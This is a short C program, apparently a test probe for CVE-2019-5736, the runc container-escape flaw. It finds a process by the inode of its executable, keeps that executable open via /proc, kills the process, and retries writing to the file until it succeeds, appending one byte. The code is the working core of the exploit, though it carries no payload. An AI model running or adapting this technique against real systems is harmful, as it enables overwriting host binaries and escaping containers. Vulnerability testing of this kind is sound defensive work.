/* Waits for a process whose program is the file of the given inode number, keeps that file open, ends the process, and
 * opens the file again for writing: CVE-2019-5736. Says "open" once it has the file, then "written" or why not. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int find(unsigned long inode)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[64];

	while ((entry = readdir(proc))) {
		struct stat stat;
		pid_t pid = atoi(entry->d_name);
		int fd;

		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		if (pid <= 1 || (fd = open(path, O_RDONLY)) < 0)
			continue;
		if (!fstat(fd, &stat) && stat.st_ino == inode) {
			kill(pid, SIGKILL);
			return fd;
		}
		close(fd);
	}
	closedir(proc);
	return -1;
}

int main(int argc, char **argv)
{
	char path[64];
	int fd, again = -1;

	if (argc != 2)
		return 2;
	while ((fd = find(strtoul(argv[1], NULL, 10))) < 0)
		;
	puts("open");
	fflush(stdout);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	/* Busy as long as it runs. */
	for (int tries = 0; tries < 1000; tries++, usleep(5000)) {
		again = open(path, O_WRONLY | O_APPEND);
		if (again >= 0 || errno != ETXTBSY)
			break;
	}
	puts(again >= 0 && write(again, "x", 1) == 1 ? "written" : strerror(errno));
	return 0;
}
